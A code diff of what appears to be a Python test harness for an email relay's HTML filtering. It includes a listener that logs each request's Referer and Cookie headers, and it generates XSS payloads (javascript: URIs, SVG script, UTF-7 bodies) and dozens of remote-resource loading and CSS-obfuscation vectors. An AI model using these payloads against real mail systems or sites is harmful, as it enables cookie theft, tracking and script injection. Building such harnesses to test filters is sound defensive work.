@@ -12,7 +12,7 @@ from typing import Any
 from attrs import define, field, frozen
 
 MARK = "owned"
-PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de")
 
 
 @define
@@ -40,12 +40,11 @@ def listener() -> Iterator[Listener]:
             """See the base class."""
             headers = self.headers
             found.heard.append((self.path, headers["Referer"], headers["Cookie"]))
-            picture = base64.b64decode(PNG)
             self.send_response(200)
             self.send_header("Content-Type", "image/png")
-            self.send_header("Content-Length", str(len(picture)))
+            self.send_header("Content-Length", str(len(PNG)))
             self.end_headers()
-            self.wfile.write(picture)
+            self.wfile.write(PNG)
 
         do_POST = do_HEAD = do_OPTIONS = do_GET
 
@@ -107,27 +106,31 @@ class Attack:
             f'<meta http-equiv="Set-Cookie" content="mailrelay=x"><base href="{url}/base/">',
             f'<svg><a xlink:href="javascript:{script}"><text y=20>x</text></a>'
             f'<animate attributeName=href values="javascript:{script}"/>'
-            f'<foreignObject><script>{script}</script></foreignObject><use href="{url}/use"/></svg>',
+            f"<foreignObject><script>{script}</script></foreignObject>"
+            f'<use href="{url}/use"/></svg>',
             f'<math href="javascript:{script}">x</math><marquee onstart="{script}">x</marquee>',
         ]
 
     def _loading(self) -> Sequence[str]:
         url, script = self.url, self.script
-        links = ("stylesheet", "prefetch", "preload", "dns-prefetch", "preconnect", "icon")
-        links += ("modulepreload", "manifest", "prerender", "import", "next")
+        links = (
+            *("stylesheet", "prefetch", "preload", "dns-prefetch", "preconnect", "icon"),
+            *("modulepreload", "manifest", "prerender", "import", "next"),
+        )
         return [
             *(f'<link rel="{rel}" as="script" href="{url}/{rel}">' for rel in links),
-            f'<img src="{url}/img" srcset="{url}/srcset 2x" lowsrc="{url}/lowsrc" dynsrc="{url}/d">',
+            f'<img src="{url}/img" srcset="{url}/srcset 2x" lowsrc="{url}/lowsrc">',
             f'<picture><source srcset="{url}/source"><img src="{url}/img2"></picture>',
             f'<table background="{url}/background"><tr><td background="{url}/td">x</table>',
             f'<body background="{url}/body"><input type="image" src="{url}/input">',
             f'<iframe src="{url}/iframe"></iframe><iframe srcdoc="<script>{script}</script>">'
             f'</iframe><frameset><frame src="{url}/frame"></frameset>',
-            f'<object data="{url}/object"></object><embed src="{url}/embed"><applet code="{url}/c">',
+            f'<object data="{url}/object"></object><embed src="{url}/embed">',
             f'<video poster="{url}/poster" src="{url}/video"></video><audio src="{url}/audio">',
             f"<p style=\"background:url({url}/style);list-style-image:url('{url}/list')\">x</p>",
             f'<p style="background:\\75\\72\\6c({url}/escaped);behavior:url({url}/htc)">x</p>',
-            f"<p style=\"background:u/**/rl({url}/comment);content:image-set('{url}/set' 1x)\">x</p>",
+            f'<p style="background:u/**/rl({url}/comment)">x</p>',
+            f"<p style=\"content:image-set('{url}/set' 1x)\">x</p>",
             f"<style>@import '{url}/import'; @import url({url}/import2); @\\69mport '{url}/i3';"
             f" @font-face {{font-family: x; src: url({url}/font)}} p {{font-family: x}}"
             f" body {{background: URL( '{url}/css' )}} p::before {{content: url({url}/content)}}"
@@ -197,7 +200,7 @@ class Attack:
             for one in (
                 f"{head}{encoded}{html}",
                 f"{head}{encoded}{mixed}{parts}--b--\r\n",
-                f"{head}Subject: utf-7\r\nContent-Type: text/html; charset=utf-7\r\n\r\n{seven}\r\n",
+                f"{head}Subject: 7\r\nContent-Type: text/html; charset=utf-7\r\n\r\n{seven}\r\n",
                 f"{head}Subject: plain {self.line}\r\n\r\n{self.line}\r\n{self.html}\r\n",
             )
         ]
